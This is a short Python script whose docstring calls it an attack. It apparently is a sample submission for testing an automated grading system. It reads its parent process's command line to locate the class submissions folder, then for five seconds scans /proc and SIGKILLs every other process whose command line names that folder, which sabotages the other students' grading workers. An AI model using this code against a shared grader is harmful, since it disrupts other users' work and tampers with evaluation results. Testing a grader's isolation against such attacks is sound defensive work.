"""Attack: kill the other grading processes of the batch (those whose command line names the class folder)."""

import os
import signal
import time

me = os.getpid()
parent = os.getppid()
try:
    argv = open(f"/proc/{parent}/cmdline", "rb").read().decode(errors="replace").split("\0")
except OSError:
    argv = []
# The submission graded by my parent is a folder of the class folder: every worker names its own.
folders = [os.path.dirname(arg.rstrip("/")) for arg in argv if os.path.isfile(os.path.join(arg, "serveur_exo.py"))]
deadline = time.monotonic() + 5  # the other workers may start a moment later: keep looking
while folders and time.monotonic() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (me, parent):
            continue
        try:
            command = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if any(folder in command for folder in folders):
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.2)
